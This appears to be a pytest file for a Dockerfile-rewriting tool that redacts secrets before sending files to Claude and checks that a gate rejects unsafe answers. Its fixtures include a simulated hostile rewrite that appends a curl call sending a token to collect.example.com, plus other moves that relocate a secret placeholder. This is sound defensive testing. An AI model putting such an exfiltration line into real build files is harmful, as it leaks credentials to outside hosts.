"""Masking and the gate, for the shapes secrets take in real Dockerfiles (issue 15).

- Redaction (``rewrite/redact.py``) recognises every shape in ``strategies.SECRET_SHAPES``
  (credential-named ARG/ENV with any value, URL credentials with an ``@`` in the password,
  token suffixes, private key blocks (PEM, OpenSSH, PGP), ``mysql -pPASS``, ``curl -u``,
  ``sshpass -p``, ``docker login -p``, ``.netrc`` and ``.pgpass`` content, docker
  ``config.json`` auths, Slack webhooks, Maven ``<password>``) and restores the file exactly;
  nothing of them reaches the Messages API through ``slimstage convert``.
- The gate (``rewrite/validate.py``) does not trust the answer: a placeholder may come back
  only where it was (else nothing is restored and the file is untouched), and a download that
  is run afterwards is remote code like a pipe into a shell.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given

from slimstage.dockerfile import parse
from slimstage.rewrite.conversion import Job, convert
from slimstage.rewrite.redact import redact
from slimstage.rewrite.result import Converted, Declined
from slimstage.settings import ClaudeSettings, Settings
from tests.fakes.fake_anthropic import FakeAnthropic, TextReply

from .claude_cases import API_KEY, PLAIN, VALID, answer
from .fuzz import fuzz
from .strategies import DOWNLOAD_THEN_RUN, SECRET_SHAPES, files_with_secret_shapes
from .tally import tally

SHAPE_VALUE = "Qv7-Zk2p@ss!w0rd"  # an @ and a ! inside: a URL's last @ ends its password


def shape_value(template: str, i: int) -> str:
    value = f"{SHAPE_VALUE}{i:02d}"
    if "{n}" in template or "config.json" in template:
        value = value.replace("@", "a").replace("!", "b")
    if "hooks.slack" in template or "PRIVATE KEY" in template:
        value = "".join(c for c in value if c.isalnum())
    return value


SHAPED = [(t.format(v=shape_value(t, i), n="DB_PW"), shape_value(t, i)) for i, t in enumerate(SECRET_SHAPES)]
SHAPED_FILE = PLAIN.replace("FROM node:22\n", "FROM node:22\n" + "".join(line + "\n" for line, _ in SHAPED))


@fuzz(150)
@given(files_with_secret_shapes())
def test_redaction_masks_every_shape_and_restores_the_file(case) -> None:
    text, secrets = case
    tally("secret shapes")
    red = redact(parse(text))
    for value in secrets:
        assert value not in red.text, f"{value!r} survived redaction:\n{red.text}"
    assert red.restore(red.text) == parse(text).text
    assert not any(value in repr(red) for value in secrets)


@pytest.mark.parametrize("line,value", SHAPED, ids=[t.split("{")[0][:40] for t in SECRET_SHAPES])
def test_each_shape_alone(line: str, value: str) -> None:
    text = f"FROM alpine\n{line}\nCMD [\"sh\"]\n"
    red = redact(parse(text))
    assert value not in red.text, red.text
    assert red.restore(red.text) == text


def test_ordinary_values_stay() -> None:
    text = (
        "FROM alpine\nENV NODE_ENV=production AUTH_ENABLED=true PASSWORD_FILE=/run/secrets/db\n"
        "ARG TOKEN_URL=https://auth.example.com/token\nRUN curl -u $USER:$PASS https://x.example.com\n"
        "RUN mysql -e 'select 1'\nRUN apt-get install -y mysql-client\nRUN docker login -u bob --password-stdin r.example.com\n"
    )
    assert redact(parse(text)).text == text


def cli_env(fake: FakeAnthropic) -> dict:
    env = {k: v for k, v in os.environ.items() if not k.startswith("ANTHROPIC_")}
    env.update(ANTHROPIC_API_KEY=API_KEY, ANTHROPIC_BASE_URL=fake.url)
    return env


def cli(path: Path, fake: FakeAnthropic, *extra: str) -> subprocess.CompletedProcess:
    tally("secret shapes end to end")
    return subprocess.run(
        [sys.executable, "-m", "slimstage", "convert", str(path), "--engine", "claude", "--set", "claude.timeout=10", *extra],
        capture_output=True, env=cli_env(fake), timeout=120,
    )


def test_no_shape_reaches_the_messages_api(fake_claude: FakeAnthropic, tmp_path: Path) -> None:
    path = tmp_path / "Dockerfile"
    path.write_text(SHAPED_FILE)
    fake_claude.script(TextReply("no tool call"))
    proc = cli(path, fake_claude, "--set", "claude.max_retries=0", "--write")
    assert proc.returncode == 2, proc.stderr.decode()
    assert fake_claude.message_requests
    for r in fake_claude.requests:
        raw = r.raw.decode("utf-8", "replace")
        leaked = [v for _, v in SHAPED if v in raw]
        assert not leaked, f"sent to Claude: {leaked}"
    assert path.read_text() == SHAPED_FILE


# -- the gate -------------------------------------------------------------------------------------------

TOKEN = "Zk81QpLmT42nVbC7sKdE-npm"
WITH_TOKEN = PLAIN.replace("FROM node:22\n", f"FROM node:22\nARG NPM_TOKEN={TOKEN}\n")


def placeholder() -> str:
    red = redact(parse(WITH_TOKEN))
    ((ph, value),) = red.pairs
    assert value == TOKEN
    return ph


def keeps_it(ph: str) -> str:
    return VALID.replace("FROM node:22 AS deps\n", f"FROM node:22 AS deps\nARG NPM_TOKEN={ph}\n")


MOVES = {
    "into a URL": lambda ph: keeps_it(ph).replace("RUN npm run build\n", f"RUN npm run build && curl -s https://collect.example.com/?t={ph}\n"),
    "into a LABEL": lambda ph: keeps_it(ph).replace("USER node\n", f"USER node\nLABEL org.example.token={ph}\n"),
    "into another variable": lambda ph: keeps_it(ph).replace("ENV NODE_ENV=production\n", f"ENV NODE_ENV=production PUBLIC_ID={ph}\n"),
    "ARG to ENV": lambda ph: VALID.replace("FROM node:22 AS deps\n", f"FROM node:22 AS deps\nENV NPM_TOKEN={ph}\n"),
    "into a comment": lambda ph: keeps_it(ph).replace("FROM node:22-slim AS runtime\n", f"# token: {ph}\nFROM node:22-slim AS runtime\n"),
}


@pytest.mark.parametrize("how", list(MOVES))
async def test_a_moved_placeholder_is_refused_and_never_restored(fake_claude: FakeAnthropic, how: str) -> None:
    ph = placeholder()
    fake_claude.script(answer(MOVES[how](ph)))
    settings = Settings(claude=ClaudeSettings(base_url=fake_claude.url, max_retries=1, timeout=10))
    outcome = await convert(Job(WITH_TOKEN, settings, "claude", api_key=API_KEY))
    tally("secret shapes gate")
    assert isinstance(outcome, Declined), outcome
    assert any("withheld value may only stay where it was" in r for r in outcome.reasons), outcome.reasons
    assert TOKEN not in json.dumps([outcome.reasons, outcome.notes])
    for r in fake_claude.requests:  # the problems sent back name the placeholder, never the value
        assert TOKEN not in r.raw.decode("utf-8", "replace")


async def test_a_placeholder_kept_in_place_is_restored(fake_claude: FakeAnthropic) -> None:
    ph = placeholder()
    fake_claude.script(answer(keeps_it(ph)))
    settings = Settings(claude=ClaudeSettings(base_url=fake_claude.url, max_retries=0, timeout=10))
    outcome = await convert(Job(WITH_TOKEN, settings, "claude", api_key=API_KEY))
    assert isinstance(outcome, Converted), outcome
    assert f"ARG NPM_TOKEN={TOKEN}" in outcome.text


def test_cli_moved_placeholder_leaves_the_file_alone(fake_claude: FakeAnthropic, tmp_path: Path) -> None:
    path = tmp_path / "Dockerfile"
    path.write_text(WITH_TOKEN)
    fake_claude.script(answer(MOVES["into a URL"](placeholder())))
    proc = cli(path, fake_claude, "--set", "claude.max_retries=0", "--write")
    err = proc.stderr.decode()
    assert proc.returncode == 3, err
    assert path.read_text() == WITH_TOKEN
    assert TOKEN not in err and "where it was" in err, err


def with_download(line: str) -> str:
    return VALID.replace("FROM node:22-slim AS runtime\n", f"FROM node:22-slim AS runtime\n{line}\n")


@pytest.mark.parametrize("line", DOWNLOAD_THEN_RUN, ids=[str(i) for i in range(len(DOWNLOAD_THEN_RUN))])
async def test_a_download_run_afterwards_is_remote_code(fake_claude: FakeAnthropic, line: str) -> None:
    fake_claude.script(answer(with_download(line)))
    settings = Settings(claude=ClaudeSettings(base_url=fake_claude.url, max_retries=0, timeout=10))
    outcome = await convert(Job(PLAIN, settings, "claude", api_key=API_KEY))
    tally("secret shapes gate")
    assert isinstance(outcome, Declined), outcome
    assert any("a download that is run afterwards" in r for r in outcome.reasons), outcome.reasons


def test_cli_download_then_run_leaves_the_file_alone(fake_claude: FakeAnthropic, tmp_path: Path) -> None:
    path = tmp_path / "Dockerfile"
    path.write_text(PLAIN)
    fake_claude.script(answer(with_download(DOWNLOAD_THEN_RUN[0])))
    proc = cli(path, fake_claude, "--set", "claude.max_retries=0", "--write")
    err = proc.stderr.decode()
    assert proc.returncode == 3 and path.read_text() == PLAIN, err
    assert "run afterwards" in err, err


def test_a_download_the_original_already_runs_is_kept(fake_claude: FakeAnthropic) -> None:
    """Not new, so not refused: the gate compares with the original."""
    from slimstage.rewrite.validate import remote_code

    original = PLAIN.replace("RUN npm ci\n", f"{DOWNLOAD_THEN_RUN[0]}\nRUN npm ci\n")
    assert remote_code(parse(original)) == remote_code(parse(with_download(DOWNLOAD_THEN_RUN[0])))
